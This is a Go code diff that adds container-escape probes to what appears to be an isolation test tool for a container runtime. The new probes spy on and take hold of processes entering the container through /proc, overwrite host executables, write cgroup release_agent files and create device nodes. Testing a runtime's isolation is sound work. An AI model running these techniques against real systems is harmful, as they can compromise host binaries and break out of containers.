@@ -16,6 +16,7 @@ import (
 	"path/filepath"
 	"strconv"
 	"strings"
+	"syscall"
 	"time"
 
 	"golang.org/x/sys/unix"
@@ -29,6 +30,11 @@ var attacks = map[string]func(args []string){
 	"swap":        swap,
 	"remount":     func([]string) { remount() },
 	"masked":      masked,
+	"race":        func(args []string) { look(args); masked(nil) },
+	"spy":         func([]string) { spy() },
+	"overwrite":   func([]string) { overwrite() },
+	"release":     func([]string) { releaseAgent() },
+	"nodes":       func([]string) { nodes() },
 }
 
 func main() {
@@ -112,7 +118,8 @@ func climb(from string) place {
 func look(args []string) {
 	mounts, _ := os.ReadFile("/proc/self/mountinfo")
 	for line := range bytes.Lines(mounts) {
-		if f := strings.Fields(string(line)); strings.Contains(f[3], args[0]) {
+		// A directory of the image has the same name.
+		if f := strings.Fields(string(line)); strings.Contains(f[3], args[0]) && !strings.Contains(f[3], "/rootfs/") {
 			got("%s of the host, on %s", f[3], f[4])
 		}
 	}
@@ -186,6 +193,179 @@ func masked(args []string) {
 		var st unix.Stat_t
 		if err := unix.Stat("/dev/"+name, &st); err == nil && st.Mode&unix.S_IFMT == unix.S_IFCHR && unix.Major(st.Rdev) != 1 {
 			got("a device %d:%d as /dev/%s", unix.Major(st.Rdev), unix.Minor(st.Rdev), name)
+		}
+	}
+}
+
+// others calls f with the directory in /proc of each process that executes no
+// file of the container's root.
+func others(f func(dir string)) {
+	dirs, _ := os.ReadDir("/proc")
+	for _, d := range dirs {
+		if pid, err := strconv.Atoi(d.Name()); err == nil && pid != os.Getpid() {
+			if dir := "/proc/" + d.Name(); !own(dir + "/exe") {
+				f(dir)
+			}
+		}
+	}
+}
+
+// own says whether exe leads to a file of the container's root.
+func own(exe string) bool {
+	var file, inside unix.Stat_t
+	target, err := os.Readlink(exe)
+	return err == nil && unix.Stat(exe, &file) == nil && unix.Stat(target, &inside) == nil && file.Ino == inside.Ino && file.Dev == inside.Dev
+}
+
+// spy looks into processes that enter the container: their program, their
+// memory, their open files, and takes hold of them.
+func spy() {
+	until(func() {
+		others(func(dir string) {
+			exe, err := os.Readlink(dir + "/exe")
+			if err != nil {
+				return
+			}
+			stub := strings.HasPrefix(exe, "/memfd:kiste ")
+			if !stub {
+				got("the program %s", exe)
+			}
+			if maps, err := os.ReadFile(dir + "/maps"); err == nil && bytes.Contains(maps, []byte("kiste-runtime")) {
+				got("the runtime's memory, as %s", exe)
+			}
+			if mem, err := os.OpenFile(dir+"/mem", os.O_RDWR, 0); err == nil {
+				mem.Close()
+				if !stub {
+					got("the memory of %s", exe)
+				}
+			}
+			files, _ := os.ReadDir(dir + "/fd")
+			for _, f := range files {
+				target, err := os.Readlink(dir + "/fd/" + f.Name())
+				if len(f.Name()) > 1 || f.Name() > "2" {
+					if err == nil && strings.HasPrefix(target, "/") && !strings.HasPrefix(target, "/dev/") && !strings.HasPrefix(target, "/memfd:kiste ") {
+						got("a descriptor of %s", target)
+					}
+				}
+			}
+		})
+	})
+}
+
+// overwrite takes hold of the programs of processes that enter the container,
+// and writes into them as soon as nobody executes them.
+func overwrite() {
+	held := map[string]int{}
+	try := func() {
+		for exe, fd := range held {
+			file, err := os.OpenFile("/proc/self/fd/"+strconv.Itoa(fd), os.O_WRONLY, 0)
+			if err != nil {
+				continue
+			}
+			if n, _ := file.WriteString("overwritten by a container"); n > 0 {
+				got("to write into %s", exe)
+			}
+			file.Close()
+		}
+	}
+	until(func() {
+		others(func(dir string) {
+			fd, err := unix.Open(dir+"/exe", unix.O_PATH|unix.O_CLOEXEC, 0)
+			if err != nil {
+				return
+			}
+			exe, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
+			if _, has := held[exe]; has || own("/proc/self/fd/"+strconv.Itoa(fd)) {
+				unix.Close(fd)
+				return
+			}
+			held[exe] = fd
+		})
+		try()
+	})
+	time.Sleep(200 * time.Millisecond) // what has been held is free by now
+	try()
+}
+
+// releaseAgent writes where it can what the kernel would run on the host, with
+// the container's namespaces and with more of its own.
+func releaseAgent() {
+	writeGroups()
+	// A process with one thread alone may make a user namespace.
+	if len(os.Args) == 2 {
+		for _, flags := range []uintptr{unix.CLONE_NEWUSER | unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP, unix.CLONE_NEWNS | unix.CLONE_NEWCGROUP} {
+			p, err := os.StartProcess("/proc/self/exe", []string{os.Args[0], "release", "inner"}, &os.ProcAttr{
+				Files: []*os.File{os.Stdin, os.Stdout, os.Stdout}, Sys: &syscall.SysProcAttr{Cloneflags: flags}})
+			if err == nil {
+				p.Wait()
+			}
+		}
+	}
+	for i, what := range []string{"rdma", "memory", "pids", "cpu", "devices", "freezer", "none,name=kiste"} {
+		at := "/tmp/" + strconv.Itoa(i)
+		os.Mkdir(at, 0o755)
+		if unix.Mount("cgroup", at, "cgroup", 0, what) == nil {
+			writeAgents(at)
+			unix.Unmount(at, unix.MNT_DETACH)
+		}
+	}
+}
+
+func writeAgents(dir string) {
+	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
+		if err != nil || d.Name() != "release_agent" {
+			return nil
+		}
+		file, err := os.OpenFile(path, os.O_WRONLY, 0)
+		if err != nil {
+			return nil
+		}
+		if _, err := file.WriteString("/agent"); err == nil {
+			got("%s", path)
+		}
+		file.Close()
+		return nil
+	})
+}
+
+// writeGroups tries to change what is mounted of cgroups.
+func writeGroups() {
+	writeAgents("/sys/fs/cgroup")
+	filepath.WalkDir("/sys/fs/cgroup", func(path string, d fs.DirEntry, err error) error {
+		if err != nil || !d.IsDir() {
+			return nil
+		}
+		if os.Mkdir(path+"/escaped", 0o755) == nil {
+			os.Remove(path + "/escaped")
+			got("to make a group in %s", path)
+		}
+		return nil
+	})
+}
+
+// nodes makes device nodes that are not its own and opens them.
+func nodes() {
+	for _, d := range []struct {
+		kind         uint32
+		major, minor uint32
+	}{{unix.S_IFCHR, 1, 1}, {unix.S_IFCHR, 1, 2}, {unix.S_IFCHR, 1, 4}, {unix.S_IFCHR, 1, 11}, {unix.S_IFCHR, 10, 229}, {unix.S_IFBLK, 7, 0}, {unix.S_IFBLK, 8, 0}, {unix.S_IFBLK, 254, 0}, {unix.S_IFBLK, 259, 0}} {
+		for _, dir := range []string{"/tmp", "/dev", "/dev/shm"} {
+			at := fmt.Sprintf("%s/node-%x-%d-%d", dir, d.kind, d.major, d.minor)
+			if err := unix.Mknod(at, d.kind|0o666, int(unix.Mkdev(d.major, d.minor))); err != nil {
+				fmt.Println(at, err)
+				continue
+			}
+			for _, how := range []int{unix.O_RDONLY, unix.O_WRONLY} {
+				fd, err := unix.Open(at, how|unix.O_NONBLOCK|unix.O_CLOEXEC, 0)
+				if err == nil {
+					unix.Close(fd)
+				}
+				// What no driver serves has passed the device rules as well.
+				if err == nil || errors.Is(err, unix.ENXIO) || errors.Is(err, unix.ENODEV) {
+					got("device %s: %v", at, err)
+				}
+			}
+			unix.Unlink(at)
 		}
 	}
 }
